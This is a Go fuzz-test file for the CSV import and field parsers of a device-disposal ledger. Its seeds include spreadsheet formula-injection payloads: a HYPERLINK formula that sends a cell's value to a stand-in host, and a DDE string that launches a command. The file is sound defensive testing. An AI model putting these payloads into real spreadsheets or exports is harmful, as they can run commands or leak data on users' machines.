package ledger

// Fuzz tests of everything that parses hostile input: CSV import files and
// the fields in them. Each runs as a normal test over its seeds (below and
// in testdata/fuzz/FuzzX/); to fuzz, one target at a time:
//
//	go test -run XXX -fuzz FuzzImportCSV -fuzztime 60s ./ledger
//
// FuzzParseWeight and FuzzParseDate are in domain_test.go, FuzzParseSection
// in foi_test.go, FuzzVerifyPDF and FuzzVerifyDetached in certificate/.

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

// fuzzHeader is the import header, for building seeds.
var fuzzHeader = strings.Join(ImportColumns, ",") + "\n"

// importSeeds are hostile and ordinary import files. The same cases, and
// more, are in testdata/fuzz/FuzzImportCSV.
func importSeeds() []string {
	row := "S1,A1,hdd,Seagate,ST1000,1000,DC-North,shred,DIN 66399 H-5,,yes,Acme,2021-03-04,0.618,RUN-1,A. Patel,M. Lewis,\n"
	return []string{
		fuzzHeader + row,
		fuzzHeader + row + row, // the same row twice
		fuzzHeader + "DUP1,,hdd,,,,,shred,,,,Acme,2021-03-04,,,,,\n",       // device already in the ledger
		fuzzHeader + "DUP1,,ssd,,,,,shred,,,,Acme,2021-03-04,,,,,\n",       // ... with different data
		fuzzHeader + "N1,,hdd,,,,,shred,,,,Acme,2021-03-04,,CLOSED-1,,,\n", // a closed batch
		fuzzHeader + "N2,,ssd,,,,,degauss,,,,Acme,2021-03-04,,,,,\n",       // degauss on flash
		"\ufeff" + strings.ReplaceAll(fuzzHeader+row, "\n", "\r\n"),        // BOM and CRLF
		fuzzHeader + `"=HYPERLINK(""http://x.example/?""&A1,""click"")",+1,hdd,@SUM(A1),-2,,"=1+2",shred,,,,Acme,2021-03-04,,,,,"=cmd|' /C calc'!A0"` + "\n",
		fuzzHeader + `=HYPERLINK("x"),,hdd,,,,,shred,,,,Acme,2021-03-04,,,,,` + "\n", // bare quotes: a CSV error
		fuzzHeader + "S2,,hdd,,,,,shred,,,,\"Acme, \"\"Ltd\"\"\",2021-03-04,,,,,\"multi\nline\nnote\"\n",
		fuzzHeader + "S3\x00,,hdd,,,,,shred,,,,Acme,2021-03-04,,,,,\n",                        // NUL
		fuzzHeader + "S4\xff\xfe,,hdd,,,,,shred,,,,Acme\xc3,2021-03-04,,,,,\n",                // invalid UTF-8
		fuzzHeader + strings.Repeat("L", 70000) + ",,hdd,,,,,shred,,,,Acme,2021-03-04,,,,,\n", // long field
		fuzzHeader + "S5,,hdd,,,,,shred,,,,Acme,2021-03-04,,,,," + strings.Repeat("n", 5000) + "\n",
		fuzzHeader + "S6,,hdd,,,,,shred,,,,Acme,2021-02-30,1.2345,,,,\n",
		fuzzHeader + "S7,\"unterminated,hdd\n",
		fuzzHeader + "S8,,hdd\n",
		fuzzHeader,
		"",
		"serial\n",
		"serial,serial,colour\n",
		strings.ReplaceAll(fuzzHeader, ",", ";") + "S9;;hdd\n",
	}
}

// fuzzLedger makes a small ledger to import into: a contractor, a device
// and a closed batch, so that imports meet existing records.
func fuzzLedger(tb testing.TB, path string) {
	tb.Helper()
	s, err := Open(path, Options{Create: true})
	if err != nil {
		tb.Fatal(err)
	}
	defer s.Close()
	s.Actor = "fuzz"
	if err := s.Init("Fuzz"); err != nil {
		tb.Fatal(err)
	}
	if _, err := s.AddContractor(Contractor{Name: "Acme"}); err != nil {
		tb.Fatal(err)
	}
	if _, err := s.AddDevice(Device{Serial: "DUP1", Type: HDD}); err != nil {
		tb.Fatal(err)
	}
	if _, err := s.AddBatch(Batch{Ref: "CLOSED-1"}); err != nil {
		tb.Fatal(err)
	}
	if _, err := s.CloseBatch("CLOSED-1", nil); err != nil {
		tb.Fatal(err)
	}
}

// FuzzImportCSV imports arbitrary bytes as a CSV file. It must not panic or
// hang; it either succeeds, leaving a ledger that passes every check, or
// returns an *ImportError whose every entry names a line, a field and a
// problem — and then the ledger is exactly as it was.
func FuzzImportCSV(f *testing.F) {
	for _, s := range importSeeds() {
		f.Add([]byte(s))
	}
	dir := f.TempDir()
	template := filepath.Join(dir, "template.db")
	fuzzLedger(f, template)
	work := filepath.Join(dir, "work.db")
	var s *Store
	var before string // every table of the working ledger, as reset left it
	reset := func(t *testing.T) {
		if s != nil {
			s.Close()
		}
		removeSQLiteFiles(work)
		data, err := os.ReadFile(template)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(work, data, 0o600); err != nil {
			t.Fatal(err)
		}
		if s, err = Open(work, Options{}); err != nil {
			t.Fatal(err)
		}
		s.Actor = "fuzz"
		before = dumpTables(t, s.db)
	}
	f.Cleanup(func() {
		if s != nil {
			s.Close()
		}
	})

	f.Fuzz(func(t *testing.T, data []byte) {
		if s == nil {
			reset(t)
		}
		type result struct {
			res ImportResult
			err error
		}
		done := make(chan result, 1)
		go func() {
			res, err := s.Import("fuzz.csv", bytes.NewReader(data), ImportOptions{})
			done <- result{res, err}
		}()
		var r result
		select {
		case r = <-done:
		case <-time.After(30 * time.Second):
			t.Fatalf("import of %d bytes still running after 30 s", len(data))
		}

		if r.err != nil {
			var ie *ImportError
			if !errors.As(r.err, &ie) {
				t.Fatalf("import failed without an *ImportError: %v", r.err)
			}
			if ie.File != "fuzz.csv" || len(ie.Errors) == 0 || !strings.HasPrefix(ie.Error(), "import fuzz.csv: ") {
				t.Fatalf("import error names no problem: %q", ie.Error())
			}
			for _, e := range ie.Errors {
				if e.Line < 0 || e.Field == "" || e.Problem == "" {
					t.Fatalf("import error entry %+v lacks a line, field or problem", e)
				}
			}
			if after := dumpTables(t, s.db); after != before {
				t.Fatalf("a failed import changed the ledger: %v", r.err)
			}
			return
		}

		// Success: the ledger passes every check, and the result adds up.
		h, err := s.CheckHealth()
		if err != nil {
			t.Fatalf("after a successful import: %v", err)
		}
		res := r.res
		if res.DevicesAdded > res.Rows || res.DisposalsAdded > res.Rows || res.DevicesAdded > res.DisposalsAdded {
			t.Fatalf("result does not add up: %+v", res)
		}
		changed := res.DevicesAdded+res.DisposalsAdded > 0
		if after := dumpTables(t, s.db); (after != before) != changed {
			t.Fatalf("result %+v, but the ledger changed: %v", res, after != before)
		}
		for _, tc := range h.Tables {
			if tc.Table == "devices" && tc.Rows != int64(1+res.DevicesAdded) {
				t.Fatalf("%d devices after adding %d to 1", tc.Rows, res.DevicesAdded)
			}
		}
		if changed {
			reset(t) // the next input starts from the same ledger
		}
	})
}

// FuzzImportRow checks the validation of one import row without a
// database (so it runs thousands of times faster than FuzzImportCSV): no
// panic; a field refused is named; a row accepted is normalised, and
// normalising it again changes nothing.
func FuzzImportRow(f *testing.F) {
	f.Add("S1", "hdd", "Shredded", "2021-03-04", "0.618", "yes", "Acme", "1000", "notes")
	f.Add(" s2 ", "Solid State", "crypto erase", "2021-02-30", "1.2345", "maybe", "", "-1", "")
	f.Add("S3\x00", "ssd", "degauss", "2021-01-01", "620g", "", "=HYPERLINK(\"x\")", "99999999999999999999", "\xff")
	f.Fuzz(func(t *testing.T, serial, typ, method, date, weight, verified, contractor, capacity, notes string) {
		row := map[string]string{"serial": serial, "type": typ, "method": method, "disposed_on": date, "weight_kg": weight,
			"verified": verified, "contractor": contractor, "capacity_gb": capacity, "notes": notes}
		dev, disp, bad := parseImportRow(func(c string) string { return row[c] }, rowRules{now: time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC)})
		if len(bad) > 0 {
			seen := map[string]bool{}
			for _, b := range bad {
				if !slices.Contains(ImportColumns, b.field) || b.err == nil || seen[b.field] {
					t.Fatalf("row error names field %q (twice: %v), not a column, or no error: %v", b.field, seen[b.field], b.err)
				}
				seen[b.field] = true
			}
			return
		}
		if !slices.Contains(DeviceTypes, dev.Type) || !slices.Contains(Methods, disp.Method) {
			t.Fatalf("accepted row not normalised: type %q, method %q", dev.Type, disp.Method)
		}
		if _, err := ParseDate(disp.DisposedOn); err != nil {
			t.Fatalf("accepted row has date %q: %v", disp.DisposedOn, err)
		}
		d2, p2 := dev, disp
		if err := d2.Validate(); err != nil || !d2.sameData(dev) {
			t.Fatalf("device %+v does not validate to itself: %+v, %v", dev, d2, err)
		}
		if err := p2.Validate(); err != nil || !p2.sameData(disp) {
			t.Fatalf("disposal %+v does not validate to itself: %+v, %v", disp, p2, err)
		}
	})
}

// FuzzParseDeviceType: no panic; a type accepted is canonical and parses
// to itself; a type refused is ErrInvalid and lists the valid types.
func FuzzParseDeviceType(f *testing.F) {
	for _, s := range []string{"hdd", "HDD", "Hard Drive", "  solid_state  drive ", "Laptops", "s", "", "fridge", "memory--card", "hdd\x00", "\xff"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		typ, err := ParseDeviceType(s)
		if err != nil {
			if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "hdd, ssd, tape") {
				t.Fatalf("ParseDeviceType(%q) error %q does not list the types", s, err)
			}
			return
		}
		if !slices.Contains(DeviceTypes, typ) {
			t.Fatalf("ParseDeviceType(%q) = %q, not a known type", s, typ)
		}
		if back, err := ParseDeviceType(string(typ)); err != nil || back != typ {
			t.Fatalf("ParseDeviceType(%q) = %q, which parses to %q, %v", s, typ, back, err)
		}
	})
}

// FuzzParseMethod: no panic; a method accepted is canonical, parses to
// itself and has a NIST category; a method refused is ErrInvalid and lists
// the valid methods.
func FuzzParseMethod(f *testing.F) {
	for _, s := range []string{"shred", "Shredded", "Crypto Erase", "crypto_erasure", "PULVERIZED", "", "melt", "-", "de-gauss", "shred\n"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		m, err := ParseMethod(s)
		if err != nil {
			if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "overwrite, block-erase") {
				t.Fatalf("ParseMethod(%q) error %q does not list the methods", s, err)
			}
			return
		}
		if !slices.Contains(Methods, m) {
			t.Fatalf("ParseMethod(%q) = %q, not a known method", s, m)
		}
		if c := m.Category(); c != Clear && c != Purge && c != Destroy {
			t.Fatalf("%q has category %q", m, c)
		}
		if back, err := ParseMethod(string(m)); err != nil || back != m {
			t.Fatalf("ParseMethod(%q) = %q, which parses to %q, %v", s, m, back, err)
		}
	})
}

// FuzzParseVerified: only yes, no, sample or "" come out, and they parse
// to themselves.
func FuzzParseVerified(f *testing.F) {
	for _, s := range []string{"yes", "Y", "TRUE", "sampled", "", " ", "0", "maybe", "yes\x00"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		v, err := ParseVerified(s)
		if err != nil {
			if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "must be yes, no or sample") {
				t.Fatalf("ParseVerified(%q) error %q", s, err)
			}
			return
		}
		if !slices.Contains([]string{"", "yes", "no", "sample"}, v) {
			t.Fatalf("ParseVerified(%q) = %q", s, v)
		}
		if back, err := ParseVerified(v); err != nil || back != v {
			t.Fatalf("ParseVerified(%q) = %q, which parses to %q, %v", s, v, back, err)
		}
	})
}

// FuzzParseBy: a --by list is accepted only when every item is a report
// field; the result is in canonical order without repeats.
func FuzzParseBy(f *testing.F) {
	for _, s := range []string{"type,method", "METHOD, type,,type", "", "colour", "type;method", "type,\x00"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		by, err := ParseBy([]string{s})
		if err != nil {
			if !errors.Is(err, ErrInvalid) || !utf8.ValidString(err.Error()) && utf8.ValidString(s) {
				t.Fatalf("ParseBy(%q) error %q", s, err)
			}
			return
		}
		last := -1
		for _, f := range by {
			i := slices.Index(ReportFields, f)
			if i <= last {
				t.Fatalf("ParseBy(%q) = %q: unknown, repeated or out of order", s, by)
			}
			last = i
		}
	})
}
